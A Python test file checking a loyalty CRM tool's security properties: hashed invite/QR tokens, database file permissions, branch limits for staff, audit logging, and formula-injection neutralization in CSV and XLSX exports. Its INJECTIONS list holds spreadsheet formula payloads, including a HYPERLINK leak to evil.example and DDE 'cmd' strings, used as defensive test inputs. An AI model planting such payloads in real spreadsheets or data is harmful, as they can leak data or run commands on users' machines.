"""Security properties, read from the database and the files themselves (SQLite and PostgreSQL).

* invite and QR tokens carry at least 128 bits and only their SHA-256 (64 hex digits) is
  stored: no table row (PostgreSQL) and no byte of the database files (SQLite) holds a token;
* the embedded SQLite database file is created mode 0600, whatever the umask;
* member and ledger exports neutralize formula injection in CSV and XLSX;
* a staff-role member cannot act outside their own branch (exit 6, nothing written);
* every mutating command leaves exactly one audit record naming the command, and read-only
  commands leave none.
"""

from __future__ import annotations

import csv
import hashlib
import os
import re
import stat
import subprocess
import sys
from pathlib import Path

from sqlalchemy import text

from crm_cli.domain.errors import ExitCode

REPO = Path(__file__).resolve().parents[2]
HEX64 = re.compile(r"^[0-9a-f]{64}$")
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=1+1",
    "+66812345678+cmd",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _token_bits(token: str) -> int:
    assert re.fullmatch(r"[0-9a-f]+", token), token
    return 4 * len(token)


def _all_rows_text(uow, backend: str) -> str:
    """Every row of every table as text (PostgreSQL), to search for a leaked token."""
    with uow(write=False) as s:
        if backend == "postgresql":
            tables = [r[0] for r in s.execute(text("SELECT tablename FROM pg_tables WHERE schemaname = 'public'"))]
            return "\n".join(str(r[0]) for t in tables for r in s.execute(text(f'SELECT t::text FROM "{t}" t')))
        tables = [r[0] for r in s.execute(text("SELECT name FROM sqlite_master WHERE type = 'table'"))]
        return "\n".join(repr(tuple(r)) for t in tables for r in s.execute(text(f'SELECT * FROM "{t}"')))


def _sqlite_bytes(db_url: str) -> bytes:
    path = Path(db_url.split(":///", 1)[1])
    return b"".join(p.read_bytes() for p in (path, Path(f"{path}-wal")) if p.exists())


# ---------------------------------------------------------------- tokens


def test_tokens_are_long_random_and_stored_only_hashed(shop, uow, backend, db_url):
    invites = [shop.json("staff", "invite", "--branch", "Siam", "--role", "staff") for _ in range(3)]
    qrs = [shop.json("points", "qr", "--spend", "150", "--branch", "Siam") for _ in range(3)]
    tokens = [i["token"] for i in invites] + [q["token"] for q in qrs]
    assert len(set(tokens)) == len(tokens)
    for t in tokens:
        assert _token_bits(t) >= 128, t
    # a claim and a join still work with the token (and are what consumed it)
    shop.ok("points", "claim", qrs[0]["token"], "--phone", "0812345678")
    shop.ok("staff", "join", invites[0]["token"], "--name", "Somchai", "--phone", "0898765432")

    with uow(write=False) as s:
        inv_hashes = [r[0] for r in s.execute(text("SELECT token_hash FROM staff_invite"))]
        qr_hashes = [r[0] for r in s.execute(text("SELECT token_hash FROM qr_claim"))]
    assert sorted(inv_hashes) == sorted(hashlib.sha256(i["token"].encode()).hexdigest() for i in invites)
    assert sorted(qr_hashes) == sorted(hashlib.sha256(q["token"].encode()).hexdigest() for q in qrs)
    assert all(HEX64.match(h) for h in inv_hashes + qr_hashes)

    everything = _all_rows_text(uow, backend)
    leaked = [t for t in tokens if t in everything or t.upper() in everything]
    assert not leaked, f"plaintext token(s) stored: {leaked}"
    if backend == "sqlite":
        raw = _sqlite_bytes(db_url)
        assert not [t for t in tokens if t.encode() in raw], "a plaintext token is in the database file"


# ---------------------------------------------------------------- file mode


def test_embedded_database_file_is_0600_whatever_the_umask(tmp_path):
    data = tmp_path / "data"
    env = {**os.environ, "CRM_DATA_DIR": str(data), "CRM_CONFIG_DIR": str(tmp_path / "config"), "CRM_ACTOR": "t"}
    env.pop("CRM_DATABASE_URL", None)
    env.pop("CRM_STORE", None)
    r = subprocess.run([sys.executable, "-m", "crm_cli", "store", "create", "cafe", "--name", "Cafe", "--phone",
                        "02-123-4567"], env=env, cwd=REPO, capture_output=True, text=True, timeout=120,
                       preexec_fn=lambda: os.umask(0))
    assert r.returncode == 0, r.stderr
    db = data / "crm.sqlite3"
    assert stat.S_IMODE(db.stat().st_mode) == 0o600, oct(db.stat().st_mode)
    for side in (Path(f"{db}-wal"), Path(f"{db}-shm"), Path(f"{db}-journal")):
        if side.exists():  # SQLite gives its side files the database file's mode
            assert stat.S_IMODE(side.stat().st_mode) & 0o077 == 0, (side.name, oct(side.stat().st_mode))


# ---------------------------------------------------------------- exports


def test_exports_neutralize_formula_injection(shop, tmp_path):
    terms = tmp_path / "terms.md"
    terms.write_text("Terms and privacy policy", encoding="utf-8")
    shop.ok("form", "terms", "--file", str(terms))
    phones = [f"08123450{i:02d}" for i in range(len(INJECTIONS))]
    refused = []
    for p, name in zip(phones, INJECTIONS):
        r = shop("member", "register", p, "--name", name, "--accept-terms")
        if r.exit_code == ExitCode.INVALID_INPUT:
            # the door refuses formula-like names and control characters; data that
            # reached the table another way (an older version, a raw SQL fix) must
            # still leave the export neutralized
            refused.append((p, name))
            shop.ok("member", "register", p, "--name", f"Member {p}", "--accept-terms")
        else:
            assert r.exit_code == 0, r.stderr
        shop.ok("points", "adjust", p, "--points", "5", "--reason", name)
    assert refused, "the door lets every formula-like name through"
    from sqlalchemy import create_engine

    from crm_cli.domain.phone import normalize_phone

    eng = create_engine(shop.db_url)
    with eng.begin() as conn:
        for p, name in refused:
            conn.execute(text("UPDATE member SET name = :n WHERE phone = :p"),
                         {"n": name.strip(), "p": normalize_phone(p)})
    eng.dispose()

    from openpyxl import load_workbook

    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"members.{fmt}"
        shop.ok("member", "export", "--out", str(out))
        ledger_out = tmp_path / f"ledger.{fmt}"
        shop.ok("points", "export", "--out", str(ledger_out))
        for path, column in ((out, "name"), (ledger_out, "reason")):
            if fmt == "csv":
                with open(path, encoding="utf-8-sig", newline="") as fh:
                    rows = list(csv.DictReader(fh))
                cells = [r[column] for r in rows]
            else:
                ws = load_workbook(path, read_only=True).worksheets[0]
                it = ws.iter_rows(values_only=True)
                header = list(next(it))
                cells = [row[header.index(column)] for row in it]
            found = {c[1:] for c in cells if isinstance(c, str) and c.startswith("'")}
            for name in INJECTIONS:  # names are stored with surrounding whitespace trimmed
                assert name in found or " ".join(name.split()) in found, (
                    f"{path.name} {column}: {name!r} not neutralized; cells {cells!r}")
            for c in cells:
                assert not (isinstance(c, str) and c[:1] in "=+-@\t\r"), f"{path.name}: live formula {c!r}"


# ---------------------------------------------------------------- branch confinement


def _counts(uow) -> dict:
    with uow(write=False) as s:
        return {t: s.execute(text(f"SELECT COUNT(*) FROM {t}")).scalar_one()
                for t in ("ledger_entry", "qr_claim", "redemption", "member", "audit_log")}


def test_staff_member_cannot_act_outside_their_branch(shop, uow):
    from datetime import datetime, timezone

    from tests.services.test_tiers_helpers import earn, member

    inv = shop.json("staff", "invite", "--branch", "Ari", "--role", "staff")
    shop.ok("staff", "join", inv["token"], "--name", "Nok", "--phone", "0891112222")
    with uow() as s:
        member(s, "0812345678", now=datetime.now(timezone.utc))
        earn(s, "0812345678", 500)
    shop.ok("reward", "create", "Latte", "--kind", "in-store", "--cost", "50")
    redeemed = shop.json("reward", "redeem", "Latte", "--phone", "0812345678", "--branch", "Ari", "--staff", "0891112222")

    before = _counts(uow)
    refused = [
        ("points", "give", "0812345678", "--spend", "100", "--branch", "Siam", "--staff", "0891112222"),
        ("points", "qr", "--spend", "100", "--branch", "Siam", "--staff", "0891112222"),
        ("reward", "redeem", "Latte", "--phone", "0812345678", "--branch", "Siam", "--staff", "0891112222"),
        ("coupon", "use", redeemed["coupon_code"], "--branch", "Siam", "--staff", "0891112222"),
        ("points", "adjust", "0812345678", "--points", "10", "--reason", "x", "--staff", "0891112222"),
    ]
    for argv in refused:
        err = shop.fails(ExitCode.NOT_ALLOWED, *argv)
        assert err.startswith("error: ") and len(err.splitlines()) == 1, err
    assert _counts(uow) == before
    # at their own branch the same staff member may
    shop.ok("points", "give", "0812345678", "--spend", "100", "--branch", "Ari", "--staff", "0891112222")
    shop.ok("points", "give", "0812345678", "--spend", "100", "--staff", "0891112222")


# ---------------------------------------------------------------- audit


def test_every_mutating_command_leaves_one_audit_record(cli, tmp_path):
    terms = tmp_path / "terms.md"
    terms.write_text("Terms v1", encoding="utf-8")
    members_csv = tmp_path / "members.csv"
    members_csv.write_text("phone,name,points\n0823334444,Imported One,10\n0823334445,Imported Two,0\n", encoding="utf-8")
    orders_csv = tmp_path / "orders.csv"
    orders_csv.write_text("order_id,phone,paid_at,amount,status,refund_amount\n"
                          "LS-1,0812345678,2026-11-10T09:15:42+07:00,250.00,paid,\n", encoding="utf-8")
    cli.ok("store", "create", "cafe", "--name", "Cafe", "--phone", "02-123-4567")
    cli.store = "cafe"
    done = ["store create"]

    def run(name: str, *argv: str, fmt: str | None = None):
        r = cli.json(*argv) if fmt == "json" else cli.ok(*argv)
        done.append(name)
        return r

    run("branch add", "branch", "add", "Siam")
    run("branch add", "branch", "add", "Ari")
    run("branch rename", "branch", "rename", "Ari", "Ari Park")
    run("store edit", "store", "edit", "--name", "Cafe Siam")
    inv = run("staff invite", "staff", "invite", "--branch", "Siam", "--role", "staff", fmt="json")
    run("staff join", "staff", "join", inv["token"], "--name", "Nok", "--phone", "0891112222")
    run("staff move", "staff", "move", "0891112222", "--branch", "Ari Park")
    run("points rule", "points", "rule", "--points", "1", "--per", "10", "--welcome", "20")
    run("points expiry rolling", "points", "expiry", "rolling", "12")
    run("form terms", "form", "terms", "--file", str(terms))
    run("member register", "member", "register", "0812345678", "--name", "Somsri", "--accept-terms")
    run("member tag", "member", "tag", "0812345678", "vip")
    run("member untag", "member", "untag", "0812345678", "vip")
    run("member note", "member", "note", "0812345678", "likes oat milk")
    run("points give", "points", "give", "0812345678", "--spend", "900", "--branch", "Siam")
    run("points adjust", "points", "adjust", "0812345678", "--points", "-5", "--reason", "typo")
    qr = run("points qr", "points", "qr", "--spend", "100", "--branch", "Siam", fmt="json")
    run("points claim", "points", "claim", qr["token"], "--phone", "0812345678")
    run("reward create", "reward", "create", "Latte", "--kind", "in-store", "--cost", "10", "--stock", "5")
    run("reward edit", "reward", "edit", "Latte", "--stock", "4")
    run("reward hide", "reward", "hide", "Latte")
    run("reward unhide", "reward", "unhide", "Latte")
    red = run("reward redeem", "reward", "redeem", "Latte", "--phone", "0812345678", fmt="json")
    run("coupon use", "coupon", "use", red["coupon_code"])
    red2 = run("reward redeem", "reward", "redeem", "Latte", "--phone", "0812345678", fmt="json")
    run("coupon cancel", "coupon", "cancel", red2["coupon_code"])
    run("tier on", "tier", "on")
    run("tier set", "tier", "set", "Gold", "--threshold", "50")
    run("tier cycle", "tier", "cycle", "12")
    run("tier recalc", "tier", "recalc")
    run("tier remove", "tier", "remove", "Gold")
    run("tier off", "tier", "off")
    run("member import", "member", "import", str(members_csv), "--branch", "Siam")
    run("orders import", "orders", "import", str(orders_csv), "--channel", "line-shopping")
    run("points expire", "points", "expire")
    run("member forget", "member", "forget", "0823334445", "--yes")
    run("staff deactivate", "staff", "deactivate", "0891112222")
    run("branch close", "branch", "close", "Ari Park")

    # read-only commands leave no record
    for argv in (("store", "show"), ("branch", "list"), ("staff", "list"), ("points", "balance", "0812345678"),
                 ("points", "history", "0812345678"), ("points", "check"), ("member", "list"),
                 ("member", "show", "0812345678"), ("reward", "list"), ("tier", "list"), ("orders", "list"),
                 ("audit", "list"), ("member", "export", "--out", str(tmp_path / "m.csv"))):
        cli.ok(*argv)

    records = cli.json("audit", "list", "--all-stores", "--limit", "1000")
    commands = [r["command"] for r in reversed(records)]
    assert commands == done, "\n".join(
        f"{i}: ran {a!r}, audit {b!r}" for i, (a, b) in enumerate(zip(done + [None] * 99, commands + [None] * 99))
        if a != b and (a or b)
    )
    assert all(r["actor"] == "tester" and r["store"] == "cafe" for r in records)
